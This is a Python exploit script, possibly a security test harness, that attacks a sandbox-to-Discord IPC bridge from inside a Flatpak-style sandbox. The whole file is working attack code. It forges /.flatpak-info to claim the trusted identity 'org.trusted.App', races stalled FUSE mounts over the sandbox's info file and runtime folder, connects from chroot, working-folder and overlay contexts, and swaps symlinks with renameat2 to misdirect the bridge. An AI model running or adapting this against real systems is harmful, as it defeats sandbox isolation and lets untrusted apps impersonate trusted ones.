"""
Attacks the bridge from a sandbox whose programs may mount: connects to the endpoint in the folder sys.argv[1] while a FUSE file
system that never answers comes and goes over .flatpak-info and the runtime folder, and from processes that have it as their root
folder, their working folder and below an overlay. With the argument `links` it puts links to that file system at the paths of
endpoints instead, one of them in turn with a dead socket, with `folder` one in turn with the folder of the endpoint.
"""

import ctypes
import os
import signal
import socket
import struct
import sys
import time

MS_RDONLY, MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND = 1, 2, 4, 32, 4096
MNT_DETACH, CLONE_NEWNS = 2, 0x20000
AT_FDCWD, RENAME_EXCHANGE, PR_SET_PDEATHSIG = -100, 2, 1
FUSE_GETATTR, FUSE_STATFS, FUSE_INIT = 3, 17, 26
ENOSYS = 38
CONNECTS = 24
RUNTIME = os.environb[b"XDG_RUNTIME_DIR"]
HANDSHAKE = b'{"v":1,"client_id":"300000000000000001"}'

libc = ctypes.CDLL(None, use_errno=True)


def check(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def mount(source, target, kind=None, flags=0, options=None):
    check(libc.mount(source, target, kind, flags, options))


def in_process(task):
    child = os.fork()
    if child == 0:
        # Outside of a PID namespace nothing else ends it with the sandbox.
        libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
        try:
            task()
        except BaseException as error:
            print("Error", task.__name__, error, flush=True)
        finally:
            os._exit(0)
    return child


def serve(fuse, mode):
    """Answers what mounts and chroot(2) need, and nothing after SIGUSR1."""
    silent = []
    signal.signal(signal.SIGUSR1, lambda *_: silent.append(True))
    attributes = struct.pack("<QII6Q10I", 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, mode, 1, os.getuid(), os.getgid(), 0, 0, 0)
    answers = {
        FUSE_INIT: struct.pack("<IIIIHHIIHHI", 7, 31, 0, 0, 12, 10, 65536, 1, 32, 0, 0) + bytes(28),
        FUSE_GETATTR: attributes,
        FUSE_STATFS: bytes(80),
    }
    while True:
        opcode, unique = struct.unpack("<IQ", os.read(fuse, 1 << 17)[4:16])
        if silent:
            continue
        body = answers.get(opcode)
        length = 16 + len(body or b"")
        os.write(fuse, struct.pack("<IiQ", length, -ENOSYS if body is None else 0, unique) + (body or b""))


def slow(path, mode):
    """Mounts a FUSE file system whose root has that mode; returns the process that serves it."""
    fuse = os.open("/dev/fuse", os.O_RDWR)
    options = f"fd={fuse},rootmode={mode:o},user_id={os.getuid()},group_id={os.getgid()}".encode()
    mount(b"slow", path, b"fuse", MS_NOSUID | MS_NODEV, options)
    server = in_process(lambda: serve(fuse, mode))
    os.close(fuse)
    return server


def connect():
    os.fchdir(box)
    app = socket.socket(socket.AF_UNIX)
    app.settimeout(5)
    app.connect("discord-ipc-0")
    app.sendall(struct.pack("<II", 0, len(HANDSHAKE)) + HANDSHAKE)
    return app


def answered(name):
    app = connect()
    print("answered" if b"READY" in app.recv(4096) else "refused", name, flush=True)
    return app


def stay(app):
    while app:
        time.sleep(60)


def at_root():
    check(libc.unshare(CLONE_NEWNS))
    os.chroot("/tmp/folder")
    stay(answered("root"))


def at_working_folder():
    check(libc.unshare(CLONE_NEWNS))
    app = answered("working folder")
    os.chdir("/tmp/folder")
    stay(app)


def below_overlay():
    check(libc.unshare(CLONE_NEWNS))
    mount(b"overlay", RUNTIME, b"overlay", MS_RDONLY, b"lowerdir=/tmp/folder:/tmp/empty")
    stay(answered("overlay"))


def flap():
    while True:
        for slow_one, over in ((b"/tmp/file", b"/.flatpak-info"), (b"/tmp/folder", RUNTIME)):
            mount(slow_one, over, None, MS_BIND)
            time.sleep(0.0005)
            check(libc.umount2(over, MNT_DETACH))


def exchange(one, other):
    print("linked", flush=True)
    while True:
        check(libc.renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE))


def lead_astray(path):
    """Puts links to a path at discord-ipc-1 beside the folder and, in turn with a dead socket, at discord-ipc-0 in it."""
    if sys.argv[2] == "folder":
        os.chdir(os.path.dirname(sys.argv[1]))
        os.symlink(path, "link")
        exchange(os.path.basename(sys.argv[1]).encode(), b"link")
    os.fchdir(box)
    os.symlink(path, "../discord-ipc-1")
    os.symlink(path, "link")
    socket.socket(socket.AF_UNIX).bind("dead")
    os.rename("dead", "discord-ipc-0")
    exchange(b"discord-ipc-0", b"link")


box = os.open(sys.argv[1], os.O_PATH | os.O_DIRECTORY)
open("/tmp/file", "w").close()
os.mkdir("/tmp/folder")
os.mkdir("/tmp/empty")
servers = [slow(b"/tmp/file", 0o100644), slow(b"/tmp/folder", 0o40755)]
if len(sys.argv) > 2:
    time.sleep(1)
    for server in servers:
        os.kill(server, signal.SIGUSR1)
    lead_astray(f"/proc/{os.getpid()}/root/tmp/folder/entry")
# Nothing can be mounted over a file without a name, such as that of --ro-bind-data.
with open("/tmp/info", "w") as info:
    info.write("[Application]\nname=org.trusted.App\n")
libc.umount2(b"/.flatpak-info", MNT_DETACH)
mount(b"/tmp/info", b"/.flatpak-info", None, MS_BIND)
mount(None, b"/.flatpak-info", None, MS_REMOUNT | MS_BIND | MS_RDONLY)

for task in (at_root, at_working_folder, below_overlay):
    in_process(task)
time.sleep(1)
for server in servers:
    os.kill(server, signal.SIGUSR1)
in_process(flap)
for count in range(CONNECTS):
    # Each by a process of its own, so that nothing of it is remembered.
    os.waitpid(in_process(lambda: answered(count)), 0)
print("done", flush=True)
stay(True)
